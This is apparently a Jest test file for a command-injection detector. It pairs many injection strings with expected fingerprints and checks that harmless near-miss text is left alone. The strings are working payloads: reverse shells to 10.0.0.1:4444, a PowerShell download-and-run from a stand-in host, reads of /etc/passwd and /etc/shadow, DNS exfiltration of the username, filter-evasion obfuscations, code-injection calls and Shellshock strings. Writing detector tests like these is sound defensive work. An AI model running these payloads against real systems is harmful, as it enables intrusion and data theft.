import { detectCommandInjection } from './commandInjectionDetector';

describe('detectCommandInjection', () => {
  it.each([
    ['127.0.0.1; cat /etc/passwd', 'cmdi:semicolon+read'],
    ['| cat -n /etc/passwd', 'cmdi:pipe+read'],
    ['; head -c 100 /etc/shadow', 'cmdi:semicolon+read'],
    ['x && whoami', 'cmdi:and+recon'],
    ['a$(id)b', 'cmdi:subst+recon'],
    ['`uname -a`', 'cmdi:backtick+recon'],
    ['| nc 10.0.0.1 4444 -e /bin/sh', 'cmdi:pipe+net'],
    ['& ping -n 21 127.0.0.1 &', 'cmdi:amp+net'],
    ['; sleep 10', 'cmdi:semicolon+delay'],
    ['& cmd /c dir', 'cmdi:amp+shell'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'cmdi:devtcp'],
    [';{cat,/etc/passwd}', 'cmdi:brace+read'],
    ['& %COMSPEC% /c ver', 'cmdi:amp+shell'],
    ['x%COMSPEC%', 'cmdi:win+comspec'],
    ['1; w -i', 'cmdi:semicolon+recon'],
    ['x | WHOAMI', 'cmdi:pipe+recon'],
    [';/???/c?t /???/p??s??', 'cmdi:semicolon+glob'],
    [';/b[i]n/c[a]t /e[t]c/p[a]sswd', 'cmdi:semicolon+glob'],
    [';$0 -c id', 'cmdi:semicolon+shell'],
    ['; Start-Sleep 5', 'cmdi:semicolon+delay'],
    ['$(Start-Sleep 5)', 'cmdi:subst+delay'],
    ['; Get-ChildItem C:\\', 'cmdi:semicolon+read'],
    ['& powershell "(Get-Content C:\\Windows\\win.ini)"', 'cmdi:amp+shell'],
    ['& %SystemRoot%\\system32\\whoami.exe', 'cmdi:amp+recon'],
    ["; $(printf 'whoami')", 'cmdi:subst+echo'],
    ['$(IFS=_;cmd="cat_/etc/passwd";$cmd)', 'cmdi:subst+ifs'],
    ['& set x=who&& set y=ami&& call %x%%y%', 'cmdi:and+assembled'],
    ["& for /f %i in ('whoami') do nslookup %i.example.com", 'cmdi:amp+win'],
    ['x -oProxyCommand=id', 'cmdi:argument+ssh'],
    ['--checkpoint=1 --checkpoint-action=exec=sh shell.sh', 'cmdi:argument+tar'],
    [';a=who;b=ami;$a$b', 'cmdi:semicolon+assembled'],
    [';eval id', 'cmdi:semicolon+shell'],
    ["| powershell IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')", 'cmdi:pipe+shell'],
    [";Invoke-Expression 'Get-ChildItem C:\\ -Force'", 'cmdi:semicolon+shell'],
    ['& nslookup %USERNAME%.example.com', 'cmdi:amp+net'],
    ['&;,whoami', 'cmdi:semicolon+recon'],
    [';expr 12345 + 54321', 'cmdi:semicolon+shell'],
    ['x -exec id \\;', 'cmdi:argument+find'],
    ['-OQueueDirectory=/tmp -X/var/www/html/log.php', 'cmdi:argument+sendmail'],
    ['--output=/var/www/html/shell.php', 'cmdi:argument+curl'],
  ])('%s is %s', (value, fingerprint) => {
    const m = detectCommandInjection(value);
    expect(m?.fingerprint).toBe(fingerprint);
    expect(m!.confidence).toBeGreaterThanOrEqual(0.7);
  });

  it.each([";w'h'o'am'i", ';w"h"oami', ';wh\\oami', '& w^h^o^a^m^i', ';who$@ami', '& w"h"o"a"m"i', ';$u whoami', ';wh``oami'])('undoes word splitting in %s', (value) => {
    const m = detectCommandInjection(value);
    expect(m?.fingerprint).toMatch(/\+quoted$/);
    expect(m?.reason).toContain('whoami');
  });

  it.each([
    [";system('id');", 'cmdi:code+system'],
    ["'.passthru('ls -la').'", 'cmdi:code+php'],
    ["<?php echo shell_exec($_GET['c']); ?>", 'cmdi:code+php'],
    ['phpinfo()', 'cmdi:code+php'],
    ["eval(base64_decode('cGhwaW5mbygpOw=='))", 'cmdi:code+php'],
    ["require('child_process').exec('id')", 'cmdi:code+node'],
    ["process.mainModule.require('child_process').execSync('whoami')", 'cmdi:code+node'],
    ["__import__('os').system('id')", 'cmdi:code+python'],
    ["Runtime.getRuntime().exec(\"id\")", 'cmdi:code+java'],
    [";exit(md5('probe'));//", 'cmdi:code+eval-proof'],
    ["'.die(sha1('probe')).'", 'cmdi:code+eval-proof'],
    ['data:;base64,PD9waHAgZWNobyAxOyA/Pg==', 'cmdi:code+php-data'],
  ])('finds code injection that runs the OS in %s (%s)', (value, fingerprint) => {
    const m = detectCommandInjection(value);
    expect(m?.fingerprint).toBe(fingerprint);
    expect(m!.confidence).toBeGreaterThanOrEqual(0.85);
  });

  it.each(["The system('s) fine", "exec('report')", 'Open the operating system (OS) settings', 'eval(expression) in the docs'])(
    'leaves code-like prose %s alone',
    (value) => {
      expect(detectCommandInjection(value)).toBeUndefined();
    },
  );

  it.each([';wh$()oami', ';c$()at /etc/passwd', ';\\u\\n\\a\\m\\e -a'])('undoes empty substitutions and escaped leading letters in %s', (value) => {
    expect(detectCommandInjection(value)?.fingerprint).toMatch(/\+quoted$/);
  });

  it.each([
    [";('who'+'ami')", 'cmdi:semicolon+assembled'],
    ['& ("wh" + "oami")', 'cmdi:amp+assembled'],
    [';x=whoami;$x', 'cmdi:semicolon+assembled'],
    ["`printf 'wh\\157ami'`", 'cmdi:backtick+echo'],
    [';$(tr A-Z a-z <<< WHOAMI)', 'cmdi:subst+here-string'],
    [';$(tr "[A-Z]" "[a-z]"<<<"WhOaMi")', 'cmdi:subst+here-string'],
    ['& gcm who*.exe', 'cmdi:amp+shell'],
    ['& (gcm *hoami*)', 'cmdi:amp+shell'],
    [';$env:USERNAME', 'cmdi:semicolon+env'],
    [';. /dev/stdin<<<id', 'cmdi:semicolon+shell'],
  ])('finds the command assembled at run time in %s', (value, fingerprint) => {
    const m = detectCommandInjection(value);
    expect(m?.fingerprint).toBe(fingerprint);
    expect(m!.confidence).toBeGreaterThanOrEqual(0.7);
  });

  it.each(['() { :;}; echo vulnerable', '() { _; } >_[$($())] { echo hi; }', '() { ignored;}; /bin/sleep 5'])('finds Shellshock in %s', (value) => {
    const m = detectCommandInjection(value);
    expect(m?.fingerprint).toMatch(/^cmdi:/);
    expect(m!.confidence).toBeGreaterThanOrEqual(0.85);
  });

  it.each([['/bin/ls|', 'cmdi:open-pipe+read'], ['ls -la|', 'cmdi:open-pipe+read'], ['/usr/bin/id|', 'cmdi:open-pipe+recon']])(
    'finds the pipe open %s',
    (value, fingerprint) => {
      expect(detectCommandInjection(value)?.fingerprint).toBe(fingerprint);
    },
  );

  it.each([
    "x = 'who' + 'ami'",
    "('a' + 'b')",
    'What does () { :; } mean in bash?',
    'function() { return 1; };',
    'var f = function () { return 1; };',
    'yes|no',
    'cat |',
    'Type |',
    'tr a-z A-Z',
    // Language pairs and lists: tr is also Turkish's language code.
    'en|tr|de',
    // Filters given only flags read the command's own output.
    'sort | uniq -c',
    "just pipe it through sort | uniq -c and you'll see the counts",
    'a | head -n 5',
    'cat <<< hello',
    '$(tr a-z A-Z <<< hello)',
    'langpair=en|tr',
    'How do I use tr to uppercase a string?',
    'AES; GCM mode',
    '; ls *.txt',
    'x=whoami',
    'I ran whoami',
    '\\windows\\notes',
  ])('leaves the near miss %s alone', (value) => {
    expect(detectCommandInjection(value)).toBeUndefined();
  });

  it('reads ${IFS} as a space', () => {
    expect(detectCommandInjection(';cat${IFS}/etc/passwd')?.fingerprint).toBe('cmdi:semicolon+read+ifs');
  });

  it('reports a command with no separator only in an unambiguous shape, weakly', () => {
    expect(detectCommandInjection('ls -la')).toBeUndefined();
    expect(detectCommandInjection('nc -e /bin/sh 10.0.0.1 4444')?.confidence).toBeGreaterThanOrEqual(0.8);
  });

  it.each([
    'Tom & Jerry',
    'R&D',
    'salt; pepper',
    'a | b',
    'Books & more',
    'cat food',
    'ping me later',
    '$(price)',
    '$5.00',
    '| name | id | email |',
    'Run `ls -la` to see hidden files in the folder',
    'name=John&id=5',
    'Written in PHP & Python',
    '$(document).ready(function() {})',
    // Random passwords: Unix names are lower case, one letter must stand alone, a glob needs a directory.
    '.Oz.j1];W>',
    ';w>-##;tq*fD',
    '}xywL|SH',
    'zRe6Ihf`/Ep_5r?',
    '&|6I`$0<p',
    '9-pe5`s`$0',
    '; $total cost',
    'use a for loop; for /files see docs',
    '-o output.txt',
    '--exec-mode=fast',
    'Print md5(value) in the log',
    'data:image/png;base64,iVBORw0KGgo=',
    '[a] and [b]; /api/[id]/items',
    'B2k3ib;$u$K',
    'eval: done; eval later',
    '-o report.pdf',
  ])('leaves %s alone', (value) => {
    expect(detectCommandInjection(value)).toBeUndefined();
  });

  it('bounds the fragment', () => {
    const m = detectCommandInjection(`; cat /etc/passwd ${'a'.repeat(500)}`);
    expect(m?.fragment.length).toBeLessThanOrEqual(120);
  });
});
